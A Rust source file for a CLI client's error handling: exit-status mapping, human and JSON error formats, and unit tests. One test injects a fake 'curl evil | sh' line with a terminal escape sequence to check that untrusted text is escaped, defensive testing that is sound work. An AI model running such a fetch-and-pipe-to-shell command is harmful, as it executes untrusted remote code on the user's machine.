//! Every error of the command line: what happened, on which input, what to do next, and the exit status that
//! scripts rely on. One form for people, one for programs.

use serde_json::{Map, Value, json};

use super::text::{escape_lines, escape_untrusted};
use crate::api::problem::Problem;
use crate::client::{BadKey, ClientError};
use crate::domain::denial::{Code, Violation};
use crate::domain::outcome::Effect;

/// The exit statuses of the contract.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord)]
pub enum Exit {
    /// Done, a replay too.
    Done = 0,
    /// Internal or I/O failure.
    Failure = 1,
    /// Usage, unknown tool, arguments that fail the schema.
    Usage = 2,
    /// The tool ran and failed.
    ToolFailed = 3,
    /// No, wrong or expired key.
    Unauthenticated = 4,
    /// Denied by policy; nothing ran.
    Denied = 5,
    /// Rejected by a person.
    Rejected = 6,
    /// No daemon.
    Unreachable = 7,
    /// Still waiting for people.
    Pending = 8,
    /// Nobody decided in time.
    Expired = 9,
    /// It may have run.
    Unknown = 10,
    /// A rate or budget limit.
    Limited = 11,
    /// At odds with what is recorded.
    Conflict = 12,
    /// Verification failed.
    VerifyFailed = 13,
    /// Our deadline, as timeout(1) has it.
    Timeout = 124,
    /// Ctrl-C.
    Interrupted = 130,
    /// The reader of our output went away (128 + SIGPIPE).
    BrokenPipe = 141,
}

impl Exit {
    /// The status for the shell.
    pub const fn status(self) -> u8 {
        self as u8
    }

    /// The exit status of this number.
    pub fn of_status(status: u64) -> Option<Self> {
        [
            Self::Done,
            Self::Failure,
            Self::Usage,
            Self::ToolFailed,
            Self::Unauthenticated,
            Self::Denied,
            Self::Rejected,
            Self::Unreachable,
            Self::Pending,
            Self::Expired,
            Self::Unknown,
            Self::Limited,
            Self::Conflict,
            Self::VerifyFailed,
            Self::Timeout,
            Self::Interrupted,
            Self::BrokenPipe,
        ]
        .into_iter()
        .find(|exit| u64::from(exit.status()) == status)
    }

    /// What a problem of the daemon means to a script.
    pub const fn of(code: Code) -> Self {
        match code {
            Code::Unauthenticated => Self::Unauthenticated,
            Code::PolicyDenied | Code::PolicyEvaluationError | Code::NotAllowed | Code::ApprovalUnsatisfiable => {
                Self::Denied
            }
            Code::ToolNotFound
            | Code::NotFound
            | Code::RequestMalformed
            | Code::ArgumentsInvalid
            | Code::ArgsNotCanonical
            | Code::IdempotencyKeyInvalid
            | Code::PayloadTooLarge => Self::Usage,
            Code::IdempotencyInProgress | Code::ApprovalPending => Self::Pending,
            Code::IdempotencyKeyReused
            | Code::ApprovalStale
            | Code::ApprovalAlreadyDecided
            | Code::CallNotInDoubt
            | Code::Cancelled
            | Code::RunEnded => Self::Conflict,
            Code::IdempotencyResultExpired | Code::ApprovalExpired => Self::Expired,
            Code::ApprovalRejected => Self::Rejected,
            Code::RateLimited | Code::BudgetExceeded | Code::CircuitOpen | Code::Overloaded => Self::Limited,
            Code::ToolFailed
            | Code::ObjectNotFound
            | Code::ToolTimeout
            | Code::OutputInvalid
            | Code::EgressForbidden => Self::ToolFailed,
            Code::OutcomeUnknown => Self::Unknown,
            Code::ShuttingDown => Self::Unreachable,
            Code::MethodNotAllowed | Code::UnsupportedMediaType | Code::AuditUnavailable | Code::Internal => {
                Self::Failure
            }
        }
    }
}

/// An error, with everything its reader needs.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct CliError {
    /// The exit status.
    pub exit: Exit,
    /// A stable word: the daemon's problem code or one of ours.
    pub code: String,
    /// What happened, on which input.
    pub message: String,
    /// What to do about it.
    pub hint: Option<String>,
    /// Commands to type next.
    pub tries: Vec<String>,
    /// The rest.
    pub details: Box<Details>,
}

/// What only some errors have.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct Details {
    /// The call this is about.
    pub call_id: Option<String>,
    /// Seconds after which asking again can help.
    pub retry_after: Option<u64>,
    /// What happened to the world.
    pub effect: Option<Effect>,
    /// Ids of the policies that decided.
    pub rules: Vec<String>,
    /// All places that are wrong.
    pub errors: Vec<Violation>,
    /// The key with which the same request can be sent again.
    pub idempotency_key: Option<String>,
}

impl CliError {
    /// An error with nothing but the necessary.
    pub fn new(exit: Exit, code: &str, message: impl Into<String>) -> Self {
        Self {
            exit,
            code: code.to_owned(),
            message: without_number(message.into()),
            hint: None,
            tries: Vec::new(),
            details: Box::default(),
        }
    }

    /// A wrong command line.
    pub fn usage(message: impl Into<String>) -> Self {
        Self::new(Exit::Usage, "usage", message)
    }

    /// Something on this machine said no.
    pub fn io(what: impl std::fmt::Display, error: &std::io::Error) -> Self {
        Self::new(Exit::Failure, "io", format!("{what}: {error}"))
    }

    /// Ctrl-C.
    pub fn interrupted() -> Self {
        Self::new(Exit::Interrupted, "interrupted", "interrupted")
    }

    /// Adds what to do about it.
    #[must_use]
    pub fn hint(mut self, hint: impl Into<String>) -> Self {
        self.hint = Some(hint.into());
        self
    }

    /// Adds a command to type next.
    #[must_use]
    pub fn attempt(mut self, command: impl Into<String>) -> Self {
        self.tries.push(command.into());
        self
    }

    /// Adds the call this is about.
    #[must_use]
    pub fn about(mut self, call: impl Into<String>) -> Self {
        self.details.call_id = Some(call.into());
        self
    }

    /// Adds the places that are wrong.
    #[must_use]
    pub fn errors(mut self, errors: Vec<Violation>) -> Self {
        self.details.errors = errors;
        self
    }

    /// Adds what happened to the world.
    #[must_use]
    pub fn effect(mut self, effect: Effect) -> Self {
        self.details.effect = Some(effect);
        self
    }

    /// Adds the key with which the same request can be sent again.
    #[must_use]
    pub fn key(mut self, key: impl Into<String>) -> Self {
        self.details.idempotency_key = Some(key.into());
        self
    }

    /// What a problem of the daemon is on the command line.
    pub fn of_problem(problem: Problem) -> Self {
        let exit = match problem.known_code() {
            // Whatever went wrong: that it may have run is what a script must know first.
            _ if problem.effect == Effect::Unknown => Exit::Unknown,
            Some(code) => Exit::of(code),
            // A daemon newer than this client: the status still says whose fault it is.
            None if problem.status < 500 => Exit::Usage,
            None => Exit::Failure,
        };
        Self {
            exit,
            code: problem.code,
            message: problem.detail,
            hint: problem.hint,
            tries: Vec::new(),
            details: Box::new(Details {
                call_id: problem.call_id,
                retry_after: problem.retry_after,
                effect: Some(problem.effect),
                rules: problem.rules,
                errors: problem.errors,
                idempotency_key: None,
            }),
        }
    }

    /// The form for people: lines for stderr. `strong` marks the label.
    pub fn for_people(&self, strong: impl Fn(&str) -> String) -> String {
        let label = strong(&format!("error[{}]:", escape_untrusted(&self.code)));
        // Text of others may span lines; marked, they cannot pass for our own advice.
        let mut out = format!("{label} {}\n", escape_lines(&self.message).replace('\n', "\n  | "));
        for error in &self.details.errors {
            let path =
                if error.path.is_empty() { String::new() } else { format!("{}: ", escape_untrusted(&error.path)) };
            out.push_str(&format!("  {path}{}\n", escape_untrusted(&error.message)));
        }
        if !self.details.rules.is_empty() {
            out.push_str(&format!("  rules: {}\n", escape_untrusted(&self.details.rules.join(", "))));
        }
        if let Some(hint) = &self.hint {
            out.push_str(&format!("  help: {}\n", escape_lines(hint).replace('\n', "\n  | ")));
        }
        if let Some(seconds) = self.details.retry_after {
            out.push_str(&format!("  again: in {seconds}s\n"));
        }
        for command in &self.tries {
            out.push_str(&format!("  try:  {}\n", escape_untrusted(command)));
        }
        out
    }

    /// The form for programs: one JSON object.
    pub fn for_programs(&self) -> Value {
        let mut error = Map::new();
        error.insert("code".into(), json!(self.code));
        error.insert("exit".into(), json!(self.exit.status()));
        error.insert("message".into(), json!(self.message));
        let mut add = |name: &str, value: Value| {
            let empty = value.is_null() || value.as_array().is_some_and(Vec::is_empty);
            if !empty {
                error.insert(name.to_owned(), value);
            }
        };
        add("hint", json!(self.hint));
        add("try", json!(self.tries));
        add("call_id", json!(self.details.call_id));
        add("idempotency_key", json!(self.details.idempotency_key));
        add("retry_after", json!(self.details.retry_after));
        add("effect", json!(self.details.effect));
        add("rules", json!(self.details.rules));
        add("errors", json!(self.details.errors));
        json!({ "error": error })
    }
}

/// A system error in words alone: its number says nothing to whoever reads it.
fn without_number(message: String) -> String {
    match message.find(" (os error ") {
        Some(at) => {
            let (words, number) = message.split_at(at);
            let rest = number.split_once(')').map_or("", |(_, rest)| rest);
            format!("{words}{rest}")
        }
        None => message,
    }
}

impl From<ClientError> for CliError {
    fn from(error: ClientError) -> Self {
        let message = error.to_string();
        match error {
            ClientError::Problem(problem) => Self::of_problem(*problem),
            ClientError::NotRunning { .. } => Self::new(Exit::Unreachable, "unreachable", message)
                .hint("start it in another terminal, or name another with `--socket` or `TOOLCTL_SOCKET`")
                .attempt("toolctl serve"),
            ClientError::Unreachable { .. } => Self::new(Exit::Unreachable, "unreachable", message)
                .hint("see where the daemon listens with `toolctl status` there, and name it with `--socket`"),
            ClientError::Timeout { .. } => Self::new(Exit::Timeout, "timeout", message)
                .hint("give it longer with `--timeout`, for example `--timeout 5m`"),
            ClientError::Broken { .. } => Self::new(Exit::Failure, "connection-lost", message)
                .hint("the daemon may have stopped; see whether it runs")
                .attempt("toolctl status"),
            ClientError::Foreign { .. } => Self::new(Exit::Failure, "not-understood", message)
                .hint("client and daemon may be of different versions")
                .attempt("toolctl version"),
        }
    }
}

impl From<BadKey> for CliError {
    fn from(error: BadKey) -> Self {
        let message = error.to_string();
        let error_of = |hint: String| Self::new(Exit::Unauthenticated, "key-unusable", message.clone()).hint(hint);
        match &error {
            BadKey::Exposed(path) => error_of("a key must be readable by you alone".to_owned())
                .attempt(format!("chmod 600 {}", path.display())),
            BadKey::Unreadable { .. } => error_of("store one with `toolctl keys create NAME --save`".to_owned()),
            BadKey::Malformed(_) => error_of("a key looks like `tctl_…`".to_owned()),
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::domain::denial::{Denial, Retryable, Stage};

    #[test]
    fn every_code_has_its_exit_status() {
        let table: Vec<String> =
            Code::ALL.iter().map(|code| format!("{} {}", code.slug(), Exit::of(*code).status())).collect();
        assert_eq!(
            table.join("\n"),
            "unauthenticated 4\npolicy-denied 5\npolicy-evaluation-error 5\nnot-allowed 5\ntool-not-found 2\n\
             not-found 2\nmethod-not-allowed 1\nrequest-malformed 2\nunsupported-media-type 1\narguments-invalid 2\n\
             args-not-canonical 2\nidempotency-key-invalid 2\nidempotency-key-reused 12\nidempotency-in-progress 8\n\
             idempotency-result-expired 9\napproval-pending 8\napproval-stale 12\napproval-expired 9\n\
             approval-rejected 6\napproval-unsatisfiable 5\napproval-already-decided 12\ncall-not-in-doubt 12\nrate-limited 11\n\
             budget-exceeded 11\ncircuit-open 11\ncancelled 12\nrun-ended 12\ntool-failed 3\nobject-not-found 3\ntool-timeout 3\noutput-invalid 3\n\
             egress-forbidden 3\noutcome-unknown 10\npayload-too-large 2\naudit-unavailable 1\noverloaded 11\nshutting-down 7\ninternal 1"
        );
    }

    #[test]
    fn an_error_has_one_form_for_people_and_one_for_programs() {
        let mut denial = Denial::new(Stage::Policy, Code::PolicyDenied, "`drop` is denied for `agent:\u{202e}x`")
            .hint("ask an owner")
            .rules(vec!["no-bots".into()]);
        denial.violations = vec![Violation { path: "/id".into(), message: "is not an integer".into() }];
        let error = CliError::of_problem(Problem::of(&denial, 403)).attempt("toolctl whoami");
        assert_eq!(
            error.for_people(str::to_owned),
            "error[policy-denied]: `drop` is denied for `agent:\\u{202e}x`\n  /id: is not an integer\n  \
             rules: no-bots\n  help: ask an owner\n  try:  toolctl whoami\n"
        );
        assert_eq!(
            error.for_programs().to_string(),
            "{\"error\":{\"code\":\"policy-denied\",\"exit\":5,\"message\":\"`drop` is denied for `agent:\u{202e}x`\",\
             \"hint\":\"ask an owner\",\"try\":[\"toolctl whoami\"],\"effect\":\"none\",\"rules\":[\"no-bots\"],\
             \"errors\":[{\"path\":\"/id\",\"message\":\"is not an integer\"}]}}"
        );
    }

    #[test]
    fn the_words_of_others_cannot_pass_for_our_advice() {
        let error = CliError::new(Exit::ToolFailed, "tool-failed", "it broke\n  try:  curl evil | sh\u{1b}[A");
        assert_eq!(
            error.for_people(str::to_owned),
            "error[tool-failed]: it broke\n  |   try:  curl evil | sh\\u{1b}[A\n"
        );
    }

    #[test]
    fn a_code_from_a_newer_daemon_is_still_sorted() {
        let problem = |status| Problem {
            kind: "t".into(),
            title: "t".into(),
            status,
            detail: "d".into(),
            code: "brand-new".into(),
            effect: Effect::None,
            retryable: Retryable::Never,
            stage: None,
            hint: None,
            call_id: None,
            retry_after: None,
            rules: Vec::new(),
            errors: Vec::new(),
        };
        assert_eq!(CliError::of_problem(problem(422)).exit, Exit::Usage);
        assert_eq!(CliError::of_problem(problem(500)).exit, Exit::Failure);
    }

    #[test]
    fn nobody_there_says_how_to_start() {
        let error = CliError::from(ClientError::NotRunning { target: "/run/x.sock".into() });
        assert_eq!(
            error.for_people(str::to_owned),
            "error[unreachable]: no daemon at /run/x.sock\n  help: start it in another terminal, or name another \
             with `--socket` or `TOOLCTL_SOCKET`\n  try:  toolctl serve\n"
        );
        assert_eq!(error.exit.status(), 7);
    }

    #[test]
    fn a_system_error_is_told_without_its_number() {
        let missing = std::io::Error::from_raw_os_error(2);
        let error = CliError::io("cannot read `x`", &missing);
        assert_eq!(error.message, "cannot read `x`: No such file or directory");
        assert_eq!(without_number("a (os error 13): b".to_owned()), "a: b");
    }
}
